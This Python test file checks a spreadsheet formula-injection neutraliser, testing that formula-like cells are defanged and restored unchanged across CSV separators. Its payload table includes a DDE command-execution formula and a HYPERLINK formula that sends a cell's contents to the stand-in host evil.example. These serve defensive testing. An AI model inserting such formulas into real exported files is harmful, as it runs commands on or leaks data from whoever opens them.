"""Nothing that people typed runs in a spreadsheet program, whichever separator it expects; and all of it comes back."""

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from trellis.core.sheets.neutral import MARKS, neutral, restored

QUICK = settings(max_examples=600, deadline=None, database=None)
# What formulas are made of, what hides them, and ordinary letters.
pieces = st.sampled_from(
    [*MARKS, "'", '"', ";", ",", "\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "a", "1", "é"]
)
texts = st.one_of(st.lists(pieces, max_size=14).map("".join), st.text(max_size=40))

PAYLOADS = {
    "a formula": "=1+1",
    "a call": "@SUM(A1:A9)",
    "a program": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://evil.example/?"&A1;"Click")',
    "a sign": "+1+1",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "a tab before it": "\t=1+1",
    "a return before it": "\r=1+1",
    "spaces before it": " \u00a0 =1+1",
    "nothing to be seen before it": "\u200b\ufeff=1+1",
    "in full width": "＝1+1",
    "the small plus": "﹢1+1",
    "behind a semicolon": "Monday; =1+1",
    "behind a line break": 'Monday\n"=1+1',
}


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet program could take a cell for a formula; written apart from the rule under test."""
    seen = cell.lstrip().lstrip('"\u200b\u200c\u200d\u200e\u200f\u2060\ufeff' + "".join(map(chr, range(32)))).lstrip()
    return any(seen.startswith(mark) for mark in MARKS)


def is_live(cell: str) -> bool:
    """The same, and whether it begins with a character that some programs drop, to find the formula behind."""
    return cell[:1] in ("\t", "\r") or is_formula(cell)


@pytest.mark.parametrize("case", PAYLOADS)
def test_no_payload_is_live_and_each_comes_back(case: str) -> None:
    safe = neutral(PAYLOADS[case])
    assert not is_live(safe)
    assert restored(safe) == PAYLOADS[case]


@pytest.mark.parametrize(
    "text", ["", "Story of self", "A - B", "it's 5", "'tis", "a@b.org", "1-2", "AFT/NEA = us", "’s"]
)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert neutral(text) == text == restored(text)


@given(texts)
@example("'=1")
@example("''\t-")
@example("\t=1")
@example("a\n\n=b")
@example("a;'=b")
@QUICK
def test_whatever_is_written_is_not_live_and_is_read_back_unchanged(text: str) -> None:
    safe = neutral(text)
    assert not is_live(safe)
    assert restored(safe) == text


@given(st.lists(texts, min_size=1, max_size=4))
@QUICK
def test_no_cell_is_live_when_a_program_cuts_at_another_separator(row: list[str]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(map(neutral, row))
    for separator in (",", ";", "\t"):
        for cells in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator):
            assert [cell for cell in cells if is_formula(cell)] == []
